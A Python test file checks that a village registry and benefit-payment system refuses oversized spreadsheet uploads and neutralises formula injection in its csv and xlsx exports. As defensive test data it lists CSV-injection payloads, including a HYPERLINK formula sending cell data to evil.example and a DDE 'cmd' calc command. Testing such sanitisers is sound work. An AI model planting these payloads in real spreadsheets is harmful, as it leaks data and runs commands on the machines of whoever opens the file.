"""Issue #13 items 1 and 4: uploads are measured before they are read, and every csv/xlsx the project writes is safe
to open in a spreadsheet (no cell is read as a formula) while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from cunwu.registry import exporter
from cunwu.registry.importer import COLUMNS, ImportFileError, read_table, template_xlsx
from cunwu.spreadsheet import FORMULA_TRIGGERS, safe_cell, unsafe_cell
from cunwu.testing import login, site_client

VILLAGE = "130926100201"
ATTACKS = ['=HYPERLINK("http://evil.example/?"&C2,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
#: What survives a trip through xlsx unchanged (XML turns a carriage return into a line feed).
WRITTEN = [attack for attack in ATTACKS if "\r" not in attack]


def _far_cell_xlsx(cell: str) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append([c.header for c in COLUMNS])
    sheet[cell] = "x"  # type: ignore[index]
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def cells_of(data: bytes) -> list[Any]:
    """Every cell of a csv (UTF-8, with or without BOM) or of every sheet of an xlsx, as written."""
    if data[:2] == b"PK":
        book = load_workbook(io.BytesIO(data))
        return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_spreadsheet_safe(data: bytes) -> None:
    formulas = [c for c in cells_of(data) if unsafe_cell(c)]
    assert formulas == [], f"cells a spreadsheet would evaluate: {formulas}"
    if data[:2] == b"PK":  # openpyxl writes text starting with "=" as a formula: none may be one
        book = load_workbook(io.BytesIO(data))
        assert all(cell.data_type != "f" for s in book.worksheets for row in s.iter_rows() for cell in row)


@pytest.mark.parametrize("cell", ["AZ1000000", "ZZ1048576", "A300000", "ZZ2"])
def test_a_far_away_cell_is_refused_before_reading(cell: str) -> None:
    data = _far_cell_xlsx(cell)
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="超过上限 200050 行、60 列"):
        read_table(data, "register.xlsx")
    assert time.monotonic() - started < 5  # measured, not read (before: 10 s and +0.8 GB for AZ1000000)


def test_the_caps_are_site_settings(site_factory: Any) -> None:
    site = site_factory(extra_toml="[core.registry]\nimport_max_rows = 10\nimport_max_columns = 30\n")
    data = _far_cell_xlsx("A70")
    with site_client(site) as client:
        login(client, site, "clerk", role="clerk", scope=VILLAGE)
        page = client.post(f"/v/{VILLAGE}/registry/import", files={"file": ("register.xlsx", data)})
        assert page.status_code == 400
        assert "第 70 行" in page.text and "超过上限 60 行、30 列" in page.text
    with pytest.raises(ImportFileError, match="第 27 列（AA 列）"):
        read_table(_far_cell_xlsx("AA2"), "r.xlsx", max_columns=26)
    assert read_table(_far_cell_xlsx("Z2"), "r.xlsx", max_columns=26).rows[0][-1] == "x"


def test_a_bank_return_with_a_far_away_cell_is_refused() -> None:
    from cunwu_plugins.dibao.disbursement import DibaoError, _read_table

    with pytest.raises(DibaoError, match="超过上限 30 行"):
        _read_table(_far_cell_xlsx("C1000000"), "return.xlsx", max_rows=30)


def test_safe_cell_neutralises_formulas_and_keeps_numbers() -> None:
    for attack in ATTACKS:
        assert unsafe_cell(attack) and safe_cell(attack) == "'" + attack and not unsafe_cell(safe_cell(attack))
    for value in ("-12.50", "+8613812345678", "6222020200012345678", "1212.00", "张三", "", "2026-12-01", 42,
                  Decimal("-3.5"), None):
        assert safe_cell(value) == value
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_register_exports_are_safe_and_import_back_unchanged() -> None:
    header = [c.header for c in COLUMNS]
    rows = [[WRITTEN[i] if c.key in ("name", "address", "ethnicity") else ("-1" if c.key == "household" else "")
             for c in COLUMNS] for i in range(len(WRITTEN))]
    table = [header, *rows]
    for data, name in ((exporter.to_xlsx(table), "register.xlsx"), (exporter.to_csv(table), "register.csv")):
        assert_spreadsheet_safe(data)
        back = read_table(data, name)
        names = [row[[c.key for c in COLUMNS].index("name")] for row in back.rows]
        assert names == [r[[c.key for c in COLUMNS].index("name")] for r in rows]  # the apostrophe is undone
        assert "-1" in [str(row[0]) for row in back.rows]  # a number stays a number
    assert_spreadsheet_safe(template_xlsx())


def test_the_bank_file_is_safe_and_keeps_its_numbers(site_factory: Any) -> None:
    from cunwu_plugins.dibao.disbursement import render_file
    from cunwu_plugins.dibao.models import Batch, Payment

    site = site_factory(enabled=["dibao"])
    batch = Batch(id=1, cycle_id=1, bank_code=next(iter(site.settings("dibao").banks)), round=0)
    payments = [Payment(id=i + 1, entitlement_id=i + 1, batch_id=1, month=dt.date(2026, 12, 1), household_id=i + 1,
                        village_code=VILLAGE, amount=Decimal("1212.00"), payee=attack,
                        bank_code=batch.bank_code, account_number="6222020200012345678")
                for i, attack in enumerate(WRITTEN)]
    for fmt in ("csv", "xlsx"):
        data = render_file(site, batch, payments, fmt, {})
        assert_spreadsheet_safe(data)
        cells = [str(c) for c in cells_of(data)]
        assert "1212.00" in cells and "6222020200012345678" in cells
        assert all("'" + attack in cells for attack in WRITTEN)
